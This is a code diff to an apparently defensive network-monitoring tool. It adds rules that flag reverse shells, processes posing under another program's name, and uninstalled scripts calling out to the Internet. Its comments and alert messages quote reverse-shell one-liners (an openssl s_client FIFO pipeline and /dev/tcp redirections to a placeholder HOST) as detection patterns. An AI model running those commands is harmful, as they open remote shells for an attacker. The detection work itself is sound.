@@ -5,7 +5,9 @@ import type { Reason } from "../model/verdict.js";
 import { processNames } from "./program-names.js";
 import { firewallShields } from "./reach.js";
 import type { Rule, RuleContext } from "./rules.js";
-import { exeOrigin, identify, isPublicAddress, originWords, type Identity } from "./trust.js";
+import { scriptOf, scriptPath } from "./command-line.js";
+import { hiddenComponent, homeOf } from "../model/places.js";
+import { exeOrigin, identify, isPublicAddress, originWords, PACKAGED_SCRIPT_DIRS, type Identity } from "./trust.js";
 
 // What makes a socket expected, and the rules that take "expected" away from a program that only looks
 // the part. Expected needs a reason, not a port or a name (issue 12):
@@ -49,6 +51,11 @@ function genuineIn(ctx: RuleContext, group: Parameters<RuleContext["knowledge"][
   return members.length === 0 ? null : identity(ctx, p, members);
 }
 
+/** Why a holder that goes by a program's name is not it; null when it is, or does not claim to be. */
+function notIt(id: Identity): string | null {
+  return id !== null && !id.is ? id.why : null;
+}
+
 /** "(by name only: a capture shows no executable)" and the like, for messages that trust a name. */
 function byNameNote(ctx: RuleContext, id: Identity): string {
   if (id === null || !id.is || id.by === "exe") return "";
@@ -68,6 +75,30 @@ function installed(p: ProcessInfo): boolean {
   if (exeOrigin(p) !== "system" || p.package?.verified === false) return false;
   return p.provenance?.database !== "dpkg" || (p.package !== null && p.package !== undefined);
 }
+
+/**
+ * A connection to the Internet held by a program that only carries bytes between it and its standard input
+ * and output (openssl s_client, telnet), or by one that never opens a connection itself (sleep, cat): the
+ * building blocks of the reverse shells that no shell holds, `sh -i < FIFO 2>&1 | openssl s_client -quiet
+ * -connect HOST:443 > FIFO` and `cat </dev/tcp/HOST/443 | sh`. Installed and on port 443, they would
+ * otherwise pass for an ordinary web connection. A stream client typed on a terminal (a test of a TLS
+ * server) is only unknown; without a terminal (tty read as none), nobody types into it: suspicious.
+ */
+function pipedOutbound(ctx: RuleContext, p: ProcessInfo, port: number): Reason | null {
+  const names = processNames(p, ctx.knowledge);
+  const carrier = names.find((n) => ctx.knowledge.is("noSockets", n));
+  if (carrier !== undefined) {
+    return reason("handed-connection", "suspicious", `${who(p)} never opens a network connection itself, yet holds one to a server on the Internet (port ${port}): it was handed it, by a shell's redirection (cat </dev/tcp/HOST/PORT | sh, exec 3<>/dev/tcp/HOST/PORT) or a pipeline: a reverse shell or a beacon that no shell is seen to hold`);
+  }
+  const tool = names.find((n) => ctx.knowledge.is("streamClients", n));
+  if (tool === undefined) return null;
+  if (p.tty === null) {
+    return reason("stream-client", "suspicious", `${who(p)} passes its input and output to a server on the Internet (port ${port}) and has no terminal, so nobody is typing into it: its input comes from a pipe or a file, as in the reverse shell sh -i < FIFO 2>&1 | ${tool === "openssl" ? "openssl s_client -quiet -connect" : tool} HOST:PORT > FIFO`);
+  }
+  return reason("stream-client", "unknown", `${who(p)} passes what is typed or piped into it to a server on the Internet (port ${port}): by hand, a test of a server; in a pipeline with a shell (mkfifo), a reverse shell: look at what runs beside it`);
+}
+
+const SCRIPT_PLACE = { memfd: "memory only (fileless)", "world-writable": "a folder anyone can write to", home: "a home directory", hidden: "a hidden folder" } as const;
 
 const WEB_PORTS = { tcp: [80, 443], udp: [443, 3478, 19302] } as const;
 
@@ -140,6 +171,7 @@ export const TRUST_RULES: readonly Rule[] = [
       const p = s.process;
       const isPublic = isPublicAddress(s.remote.address);
       const clientOf = (group: "resolvers" | "timeClients") => { const id = genuineIn(ctx, group, p); return id !== null && id.is; };
+      if (isPublic && p !== null) { const piped = pipedOutbound(ctx, p, port); if (piped !== null) return piped; }
       if (port === 53 || port === 853) {
         if (!isPublic || clientOf("resolvers") || p === null) return reason("usual-outbound", "expected", `A DNS lookup to port ${port}${p ? ` by ${p.name}` : ""}`);
         return reason("direct-dns", "unknown", `${who(p)} sends DNS straight to a server on the Internet instead of asking this computer's resolver: programs normally ask the resolver; malware beacons and tunnels data this way`);
@@ -152,6 +184,12 @@ export const TRUST_RULES: readonly Rule[] = [
       if ((browser?.is ?? false) || (anyPort?.is ?? false)) {
         return reason("usual-outbound", "expected", `${p?.name} connects to many ports as part of its job${byNameNote(ctx, browser?.is ? browser : anyPort)}`);
       }
+      // It calls itself a program that connects anywhere (prctl, exec -a: python3 named sshd), but is not it.
+      const posed = notIt(browser) ?? notIt(anyPort);
+      if (p !== null && isPublic && posed !== null) {
+        const name = groupNames(ctx, notIt(browser) !== null ? "browsers" : "outboundAny", p)[0] ?? p.name;
+        return reason("impostor", "unknown", `${who(p)} is named after ${name}, a program that connects anywhere, but is not it (${posed}): a name is what a program calls itself, not what it is`);
+      }
       const web = (WEB_PORTS[s.proto as "tcp" | "udp"] as readonly number[] | undefined)?.includes(port) ?? false;
       if (!web) return null;
       const what = port === 3478 || port === 19302 ? "A video-call (STUN) connection" : "An ordinary web connection";
@@ -161,8 +199,17 @@ export const TRUST_RULES: readonly Rule[] = [
       if (p !== null && p.exe === null && isPublic && ctx.mode === "live-root") {
         return reason("unpackaged-outbound", "unknown", `${who(p)} talks to a server on the Internet (port ${port}), and its program file could not be read: nothing says which program it is`);
       }
-      if (p === null || p.exe === null || !isPublic || installed(p)) return reason("usual-outbound", "expected", `${what} to port ${port}${p ? ` by ${p.name}${p.exe && isPublic ? ", an installed program" : ""}` : ""}`);
-      return reason("unpackaged-outbound", "unknown", `${who(p)} runs ${originWords(p)} and talks to a server on the Internet (port ${port}): a program nobody installed, calling out to the Internet`);
+      // An installed interpreter vouches only for scripts from where programs are installed: python3 ~/.cache/b.py is the script's program.
+      const script = p === null || p.exe === null || !isPublic ? null : scriptOf(p, ctx.knowledge);
+      // On a host whose package database portwatch reads, a script outside the folders packages install
+      // programs to (/opt/x/b.py, /usr/local/bin/tool, /srv/app.py) is no installed program either.
+      const loose = p === null || p.exe === null || !isPublic || script !== null || p.provenance?.database !== "dpkg" ? null : scriptPath(p, ctx.knowledge);
+      const unpackaged = loose !== null && !PACKAGED_SCRIPT_DIRS.test(loose) ? loose : null;
+      if (unpackaged !== null && installed(p!)) return reason("unpackaged-outbound", "unknown", `${who(p)} runs the script ${unpackaged}, which no package installs, and talks to a server on the Internet (port ${port}): a program nobody installed, calling out to the Internet`);
+      if (p === null || p.exe === null || !isPublic || (installed(p) && script === null)) return reason("usual-outbound", "expected", `${what} to port ${port}${p ? ` by ${p.name}${p.exe && isPublic ? ", an installed program" : ""}` : ""}`);
+      const hiddenInHome = script?.place === "home" && hiddenComponent(script.path.slice(homeOf(script.path)?.length ?? 0)) !== null;
+      const runs = script === null || !installed(p) ? `runs ${originWords(p)}` : `runs the script ${script.path} from ${hiddenInHome ? "a hidden folder in a home directory" : SCRIPT_PLACE[script.place]},`;
+      return reason("unpackaged-outbound", "unknown", `${who(p)} ${runs} and talks to a server on the Internet (port ${port}): a program nobody installed, calling out to the Internet`);
     },
   },
 ];
